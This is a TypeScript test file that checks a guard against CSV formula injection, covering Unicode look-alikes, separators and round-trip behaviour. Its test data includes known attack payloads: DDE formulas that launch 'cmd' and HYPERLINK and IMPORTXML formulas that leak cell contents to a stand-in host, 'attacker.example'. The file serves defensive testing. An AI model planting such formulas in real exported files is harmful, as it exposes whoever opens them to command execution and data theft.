import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { guardFormula, unguardFormula } from "./formulas";

/** OWASP, "CSV Injection": the characters, and texts known from attacks. */
const FORMULAS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1;1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\tplain",
  "\rplain",
  "\nplain",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  " =1+1",
  "\u00a0=1+1",
  "\u3000＝1",
  "\ufeff=1+1",
  "\u200b=1+1",
  "\u202e=1+1",
  "\u2060@x",
  "\u0000=1",
  "\u0007=1",
  "\u034f=1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://attacker.example?leak="&A1,"open")',
  '=IMPORTXML(CONCAT("https://attacker.example",A1),"//a")',
  "-2+3+cmd|' /C calc'!D2",
  "+thespanishinquisition(cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "-",
  "--",
  "'=1+1",
  "''=1+1",
  "' =1+1",
];

const PLAIN = [
  "",
  " ",
  "C7",
  "The firm was founded in 2010",
  "“There is every reason”",
  "'Tis so",
  "'quoted'",
  "'",
  "1-1",
  "a=b",
  "a@b.example",
  "2026-05-31",
  "(-1)",
  "$-1",
  "*",
  "|",
  "%",
  "🙂=1",
  "é=1",
];

describe("guardFormula", () => {
  it.each(FORMULAS)("makes %j harmless", (text) => {
    // A tab or a line break at its beginning separates as well.
    const inside = text.replace(/^([\t\r\n])(?==)/, "$1'");
    expect(guardFormula(text)).toBe(`'${inside}`);
    expect(unguardFormula(guardFormula(text))).toBe(text);
  });

  it.each(PLAIN)("leaves %j alone", (text) => {
    expect(guardFormula(text)).toBe(text);
    expect(unguardFormula(text)).toBe(text);
  });

  const nasty = fc.string({
    unit: fc.oneof(
      fc.constantFrom(...Array.from("'=+-@＝＋－＠ \t\r\n\ufeff\u200bx1;|")),
      fc.string({ unit: "binary" }),
    ),
  });

  it("can be undone, whatever the text", () => {
    fc.assert(fc.property(nasty, (text) => unguardFormula(guardFormula(text)) === text));
  });

  it("leaves no cell that begins as a formula", () => {
    fc.assert(
      fc.property(nasty, (text) => {
        const seen = guardFormula(text).replace(/^[\s\p{Cc}\p{Cf}\p{DI}]+/u, "");
        return !/^[=+\-@＝＋－＠]/.test(seen) && !/^[\t\r\n]/.test(guardFormula(text));
      }),
    );
  });
});

describe("a file that is opened with another list separator", () => {
  it.each([
    ["paid; =1+1", "paid;' =1+1"],
    ["paid;=1+1;@x", "paid;'=1+1;'@x"],
    ["a|-2+3", "a|'-2+3"],
    ["a\t+1", "a\t'+1"],
    ["first\n- second", "first\n'- second"],
    ["a;'=1", "a;''=1"],
    [";=1", ";'=1"],
  ])("%j begins nowhere as a formula", (text, guarded) => {
    expect(guardFormula(text)).toBe(guarded);
    expect(unguardFormula(guarded)).toBe(text);
  });

  it.each(["paid; then left", "a;b=c", "one | two", "first\nsecond", "Paris, -5 degrees"])(
    "%j is left as it is",
    (text) => {
      expect(guardFormula(text)).toBe(text);
    },
  );

  it("takes no longer for many separators", () => {
    const text = `x${";\t'".repeat(50_000)}=1`;
    expect(unguardFormula(guardFormula(text))).toBe(text);
  });
});
